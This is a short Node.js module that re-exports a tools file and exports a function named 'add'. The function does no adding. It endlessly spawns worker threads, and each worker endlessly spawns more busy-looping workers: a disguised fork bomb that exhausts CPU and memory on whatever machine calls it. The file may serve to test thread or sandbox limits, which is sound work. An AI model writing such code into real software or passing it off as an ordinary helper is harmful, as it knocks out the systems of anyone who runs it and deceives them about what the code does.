import { Worker } from 'node:worker_threads';

export * from './tools.js';

export const add = () => {
  const threads = [];
  for (;;) threads.push(new Worker('for (;;) new (require("worker_threads").Worker)("for (;;);", { eval: true })', { eval: true }));
};
